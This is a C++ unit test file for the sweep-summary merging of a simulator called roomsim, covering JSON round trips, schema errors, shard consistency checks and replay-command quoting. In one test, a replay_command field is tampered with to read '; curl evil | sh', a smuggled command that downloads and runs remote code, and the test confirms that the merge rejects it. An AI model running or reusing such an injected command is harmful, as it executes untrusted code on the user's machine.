// tests/scenarios/sweep_summary_test.cpp: JSON round trip, schema errors and
// shard merging of SweepSummary (the `roomsim merge` input): every refusal
// of merge_summaries, partial merges, and the seed arithmetic of shards.
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <stdexcept>

#include "engine/trace.hpp"
#include "scenarios/shard.hpp"
#include "scenarios/sweep_summary.hpp"

namespace roomsim::scenarios {
namespace {

constexpr uint64_t kSeeds = 30;  // every shard below splits the seeds 1..30

// Shard k/n of a 30-seed sweep of chat-partition in which the seeds listed
// in `failing` (those of this shard) fail no-loss.
SweepSummary make_shard(uint32_t k, uint32_t n, const std::vector<uint64_t>& failing = {}) {
  const Shard shard{k, n};
  SweepSummary s;
  s.scenario_name = "chat-partition";
  s.scenario_path = "chat-partition";
  s.scenario_hash = "00000000c0ffee00";
  s.properties = {"fifo", "no-loss"};
  s.first_seed = 1;
  s.seeds_total = kSeeds;
  s.shard = shard.text();
  s.version = "0.1.0";
  s.build = "gcc-12.2.0/libstdc++/Release/81f5986abcde";
  uint64_t trace_sum = 0;
  uint64_t fails = 0;
  for (uint64_t seed = 1; seed <= kSeeds; ++seed) {
    if (!shard.contains(seed)) continue;
    ++s.seeds_run;
    const uint64_t trace = seed * 0x1000193;
    trace_sum += sweep_trace_word(seed, trace);
    if (std::find(failing.begin(), failing.end(), seed) == failing.end()) continue;
    ++fails;
    s.failures.push_back(Failure{seed, "no-loss", 1'500'000, 42, "message m3 acked but never delivered",
                                 replay_command("chat-partition", seed, hex16(trace), s.build), hex16(trace)});
  }
  s.per_property["fifo"] = {s.seeds_run, 0};
  s.per_property["no-loss"] = {s.seeds_run - fails, fails};
  s.wall_seconds = 2.0;
  s.seeds_per_s = static_cast<double>(s.seeds_run) / 2.0;
  s.sim_wall_ratio = 100.0;
  s.coverage["partition.heal"] = 3;
  s.sweep_trace_hash = hex16(trace_sum);
  return s;
}

std::vector<SummaryPart> parts_of(std::vector<SweepSummary> summaries) {
  std::vector<SummaryPart> parts;
  for (auto& s : summaries) parts.push_back({"part-" + (s.shard.empty() ? std::string("all") : s.shard) + ".json", s});
  return parts;
}

TEST(SweepSummary, JsonRoundTripKeepsEveryField) {
  SweepSummary s = make_shard(2, 3, {4, 7});
  s.missing_shards = {"3/3"};
  s.seeds_missing = 10;
  const nlohmann::json j = s;
  EXPECT_EQ(j.at("schema"), kSweepSummarySchema);
  const SweepSummary back = j.get<SweepSummary>();
  EXPECT_EQ(nlohmann::json(back), j);
  ASSERT_EQ(back.failures.size(), 2u);
  EXPECT_EQ(back.failures[0].event_index, 42u);
  EXPECT_EQ(back.failed_checks(), 2u);
  EXPECT_EQ(back.scenario_hash, "00000000c0ffee00");
  EXPECT_EQ(back.seeds_total, kSeeds);
  EXPECT_EQ(back.missing_shards, std::vector<std::string>{"3/3"});
  EXPECT_FALSE(back.passed());
}

TEST(SweepSummary, BadJsonNamesThePathAndExpectation) {
  nlohmann::json j = make_shard(1, 1, {7});
  j["failures"][0]["seed"] = "seven";
  try {
    (void)j.get<SweepSummary>();
    FAIL() << "accepted a string seed";
  } catch (const std::invalid_argument& e) {
    EXPECT_STREQ(e.what(), "/failures/0/seed: expected an unsigned integer, got \"seven\"");
  }
  for (const char* key : {"seeds_run", "scenario_hash", "first_seed", "seeds_total", "build", "sweep_trace_hash",
                          "missing_shards", "seeds_missing"}) {
    nlohmann::json k = make_shard(1, 1);
    k.erase(key);
    EXPECT_THROW((void)k.get<SweepSummary>(), std::invalid_argument) << key;
  }
  nlohmann::json w = make_shard(1, 1);
  w["schema"] = "roomsim.sweep-summary/1";
  EXPECT_THROW((void)w.get<SweepSummary>(), std::invalid_argument);
}

TEST(SweepSummary, MergeOfAllShardsEqualsOneUnshardedRun) {
  const std::vector<uint64_t> failing = {4, 9, 17, 30};
  const MergeResult m = merge_summaries(parts_of({make_shard(2, 3, failing), make_shard(1, 3, failing),
                                                  make_shard(3, 3, failing)}));
  ASSERT_TRUE(m.error.empty()) << m.error;
  SweepSummary merged = m.summary;
  SweepSummary one = make_shard(1, 1, failing);
  EXPECT_EQ(merged.seeds_run, kSeeds);
  ASSERT_EQ(merged.failures.size(), 4u);
  EXPECT_EQ(merged.failures[0].seed, 4u);
  EXPECT_EQ(merged.failures[3].seed, 30u);
  EXPECT_EQ(merged.coverage.at("partition.heal"), 9u);
  EXPECT_DOUBLE_EQ(merged.wall_seconds, 6.0);
  EXPECT_TRUE(merged.complete());
  // Equal to the unsharded run but for the wall-clock fields.
  for (SweepSummary* s : {&merged, &one}) {
    s->wall_seconds = s->seeds_per_s = s->sim_wall_ratio = 0;
    s->coverage.clear();
  }
  EXPECT_EQ(nlohmann::json(merged), nlohmann::json(one));
}

TEST(SweepSummary, MergedFailuresKeepTheCheckOrderOfOneRun) {
  // A seed that fails two properties lists them in check order ("no-loss"
  // before "fifo" here), not by name, in a run and so in a merge.
  auto two_failures = [](uint32_t k, uint32_t n) {
    SweepSummary s = make_shard(k, n, {6, 7});
    s.properties = {"no-loss", "fifo"};
    std::vector<Failure> failures;
    for (const Failure& f : s.failures) {
      failures.push_back(f);
      failures.push_back(f);
      failures.back().property = "fifo";
    }
    s.failures = failures;
    s.per_property["fifo"] = {s.seeds_run - failures.size() / 2, failures.size() / 2};
    return s;
  };
  const MergeResult m = merge_summaries(parts_of({two_failures(2, 2), two_failures(1, 2)}));
  ASSERT_TRUE(m.error.empty()) << m.error;
  std::vector<std::pair<uint64_t, std::string>> order;
  for (const Failure& f : m.summary.failures) order.emplace_back(f.seed, f.property);
  EXPECT_EQ(order, (std::vector<std::pair<uint64_t, std::string>>{{6, "no-loss"}, {6, "fifo"}, {7, "no-loss"}, {7, "fifo"}}));
  EXPECT_EQ(nlohmann::json(m.summary)["failures"], nlohmann::json(two_failures(1, 1))["failures"]);
}

TEST(SweepSummary, MergeRefusesTheSameShardTwice) {
  auto parts = parts_of({make_shard(1, 2), make_shard(2, 2)});
  parts.push_back({"copy.json", make_shard(1, 2)});
  EXPECT_EQ(merge_summaries(parts).error, "part-1/2.json and copy.json are both shard 1/2: each shard may be merged once");
  EXPECT_EQ(merge_summaries({{"a.json", make_shard(1, 1)}, {"b.json", make_shard(1, 1)}}).error,
            "a.json and b.json are both the unsharded run: each shard may be merged once");
}

TEST(SweepSummary, MergeRefusesMissingShardsUnlessPartialIsAllowed) {
  const auto parts = parts_of({make_shard(1, 3, {4}), make_shard(2, 3)});
  EXPECT_EQ(merge_summaries(parts).error,
            "missing shard 3/3 of 3: 10 of the 30 seeds 1..30 did not run (pass --allow-partial to merge the rest; the "
            "result is never a pass)");
  const MergeResult m = merge_summaries(parts, MergeOptions{true});
  ASSERT_TRUE(m.error.empty()) << m.error;
  EXPECT_EQ(m.summary.missing_shards, std::vector<std::string>{"3/3"});
  EXPECT_EQ(m.summary.seeds_missing, 10u);
  EXPECT_EQ(m.summary.seeds_run, 20u);
  EXPECT_FALSE(m.summary.complete());
  const MergeResult clean = merge_summaries(parts_of({make_shard(1, 3), make_shard(3, 3)}), MergeOptions{true});
  EXPECT_EQ(clean.summary.failed_checks(), 0u);
  EXPECT_FALSE(clean.summary.passed());  // no violation, and still no pass
  // A partial merge is not a shard of anything.
  EXPECT_EQ(merge_summaries({{"partial.json", m.summary}, {"p3.json", make_shard(3, 3)}}).error,
            "partial.json: missing_shards: this is a partial merge (missing 3/3); merge the shard summaries themselves");
}

TEST(SweepSummary, MergeRefusesPartsThatAreNotShardsOfOneSweep) {
  struct Case {
    const char* field;
    std::function<void(SweepSummary&)> change;
  };
  const std::vector<Case> cases = {
      {"scenario_name (\"chat-partition\" vs \"smoke\")", [](SweepSummary& s) { s.scenario_name = "smoke"; }},
      {"scenario_hash (\"00000000c0ffee00\" vs \"00000000c0ffee01\")",
       [](SweepSummary& s) { s.scenario_hash = "00000000c0ffee01"; }},
      {"properties (\"fifo, no-loss\" vs \"fifo\")",
       [](SweepSummary& s) {
         s.properties = {"fifo"};
         s.per_property.erase("no-loss");
       }},
      {"version (\"0.1.0\" vs \"0.2.0\")", [](SweepSummary& s) { s.version = "0.2.0"; }},
      {"build (\"gcc-12.2.0/libstdc++/Release/81f5986abcde\" vs \"clang-14.0.6/libc++/Release/81f5986abcde\")",
       [](SweepSummary& s) { s.build = "clang-14.0.6/libc++/Release/81f5986abcde"; }},
  };
  for (const Case& c : cases) {
    SweepSummary other = make_shard(2, 2);
    c.change(other);
    EXPECT_EQ(merge_summaries({{"a.json", make_shard(1, 2)}, {"b.json", other}}).error,
              std::string("a.json and b.json differ in ") + c.field +
                  ": only shards of one sweep (same scenario content, seed range, properties and binary) merge");
  }
  // Seed range and shard count: a run of other seeds holds other counts.
  SweepSummary more = make_shard(2, 2);
  more.seeds_total = 32;
  more.seeds_run = 16;
  EXPECT_NE(merge_summaries({{"a.json", make_shard(1, 2)}, {"b.json", more}}).error.find(
                "a.json and b.json differ in seeds_total (\"30\" vs \"32\")"),
            std::string::npos);
  SweepSummary later = make_shard(2, 2);
  later.first_seed = 3;  // 3..32 holds 15 odd and 15 even seeds, like 1..30
  EXPECT_NE(merge_summaries({{"a.json", make_shard(1, 2)}, {"b.json", later}}).error.find("differ in first_seed"),
            std::string::npos);
  EXPECT_NE(merge_summaries({{"a.json", make_shard(1, 2)}, {"b.json", make_shard(2, 3)}}).error.find(
                "differ in shard count (\"1/2\" vs \"2/3\")"),
            std::string::npos);
  EXPECT_EQ(merge_summaries({}).error, "nothing to merge");
}

TEST(SweepSummary, MergeRefusesAPartThatContradictsItself) {
  struct Case {
    const char* error;
    std::function<void(SweepSummary&)> change;
  };
  const std::vector<Case> cases = {
      {"seeds_run: 14, but shard 1/2 holds 15 (seeds s with s % 2 == 0 in 1..30)",
       [](SweepSummary& s) { s.seeds_run = 14; }},
      {"/failures/0/seed: 3 is not one of this summary's seeds s with s % 2 == 0 in 1..30",
       [](SweepSummary& s) { s.failures[0].seed = 3; }},
      {"/failures/0/seed: 32 is not one of this summary's seeds s with s % 2 == 0 in 1..30",
       [](SweepSummary& s) { s.failures[0].seed = 32; }},
      {"/failures/0/property: \"speed\" is not one of the checked properties",
       [](SweepSummary& s) { s.failures[0].property = "speed"; }},
      {"/failures/0/trace_hash: expected 16 hex digits, got \"xyz\"", [](SweepSummary& s) { s.failures[0].trace_hash = "xyz"; }},
      {"/failures/1: failures must be ordered by seed, then in check order (properties), each pair once",
       [](SweepSummary& s) { std::swap(s.failures[0], s.failures[1]); }},
      {"/per_property/no-loss/fail: 1, but failures lists 2",
       [](SweepSummary& s) { s.per_property["no-loss"] = {14, 1}; }},
      {"/per_property/no-loss: pass + fail is more than seeds_run (15)",
       [](SweepSummary& s) { s.per_property["no-loss"] = {15, 2}; }},
      {"sweep_trace_hash: expected 16 hex digits, got \"\"", [](SweepSummary& s) { s.sweep_trace_hash = ""; }},
      {"shard: expected \"K/N\" with 1 <= K <= N or \"\", got \"3/2\"", [](SweepSummary& s) { s.shard = "3/2"; }},
      {"shard: \"1/100001\" has more than 100000 shards", [](SweepSummary& s) { s.shard = "1/100001"; }},
  };
  for (const Case& c : cases) {
    SweepSummary bad = make_shard(1, 2, {4, 10});
    c.change(bad);
    EXPECT_EQ(merge_summaries({{"a.json", bad}, {"b.json", make_shard(2, 2)}}).error, std::string("a.json: ") + c.error);
  }
  SweepSummary tampered = make_shard(1, 2, {4});
  tampered.failures[0].replay_command = "roomsim replay chat-partition --seed 4; curl evil | sh";
  const std::string error = merge_summaries({{"a.json", tampered}, {"b.json", make_shard(2, 2)}}).error;
  EXPECT_EQ(error.rfind("a.json: /failures/0/replay_command: expected \"roomsim replay chat-partition --seed 4 "
                        "--expect-trace-hash ",
                        0),
            0u)
      << error;
}

TEST(SweepSummary, ReplayCommandQuotesTheSourceAndCarriesHashAndBuild) {
  EXPECT_EQ(replay_command("swarm", 9, "", ""), "roomsim replay swarm --seed 9");
  EXPECT_EQ(replay_command("my dir/it's.json", 9, "00ff00ff00ff00ff", "gcc-12.2.0/libstdc++/Release/abc"),
            "roomsim replay 'my dir/it'\\''s.json' --seed 9 --expect-trace-hash 00ff00ff00ff00ff --expect-build "
            "gcc-12.2.0/libstdc++/Release/abc");
  EXPECT_EQ(parse_hex16("00ff00ff00ff00ff"), 0x00ff00ff00ff00ffULL);
  for (const char* bad : {"", "00ff00ff00ff00f", "00FF00FF00FF00FF", "00ff00ff00ff00fg", "00ff00ff00ff00ff0"}) {
    EXPECT_FALSE(parse_hex16(bad).has_value()) << bad;
  }
}

TEST(Shard, SeedsInCountsWhatTheRunnerSelects) {
  for (uint32_t n = 1; n <= 7; ++n) {
    for (uint32_t k = 1; k <= n; ++k) {
      for (uint64_t first : {0ULL, 1ULL, 5ULL, 1000003ULL}) {
        for (uint64_t total = 0; total <= 20; ++total) {
          uint64_t brute = 0;
          for (uint64_t s = first; s < first + total; ++s) brute += Shard{k, n}.contains(s) ? 1 : 0;
          ASSERT_EQ(Shard({k, n}).seeds_in(first, total), brute) << k << "/" << n << " " << first << "+" << total;
        }
      }
    }
  }
  // The top of the range does not overflow.
  EXPECT_EQ((Shard{1, 2}.seeds_in(UINT64_MAX - 9, 10)), 5u);
  EXPECT_EQ(Shard({2, 3}).describe(1, 30), "seeds s with s % 3 == 1 in 1..30");
  EXPECT_EQ(Shard{}.describe(5, 2), "seeds 5..6");
}

}  // namespace
}  // namespace roomsim::scenarios
